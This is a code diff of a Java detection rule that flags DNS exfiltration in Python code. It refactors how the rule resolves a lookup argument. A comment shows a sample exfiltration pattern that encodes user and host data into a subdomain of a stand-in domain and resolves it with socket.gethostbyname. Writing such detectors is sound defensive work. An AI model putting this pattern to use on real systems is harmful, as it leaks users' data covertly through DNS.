@@ -11,7 +11,6 @@ import dev.kingsnake.spi.RuleInfo;
 import dev.kingsnake.spi.Tags;
 import dev.kingsnake.spi.python.Expr;
 
-import java.util.List;
 import java.util.Optional;
 import java.util.Set;
 
@@ -52,12 +51,8 @@ public final class DnsExfilRule implements PythonFileRule {
             }
             return Optional.empty();
         }
-        Optional<Expr> host = c.call().arg(0);
-        if (host.isPresent() && host.get() instanceof Expr.Name n) {
-            // d = user + '.' + host + '.collect.example.invalid'; socket.gethostbyname(d)
-            List<Expr> values = facts.assignedIn(c.scope(), n.id());
-            host = values.size() == 1 ? Optional.of(values.get(0)) : Optional.empty();
-        }
+        // d = user + '.' + host + '.collect.example.invalid'; socket.gethostbyname(d)
+        Optional<Expr> host = c.call().arg(0).map(h -> facts.valueOf(c.scope(), h));
         if (host.isEmpty() || !(host.get() instanceof Expr.FString || host.get() instanceof Expr.BinOp
                 || host.get() instanceof Expr.Call) || facts.file().constant(host.get()).isPresent()) {
             return Optional.empty();
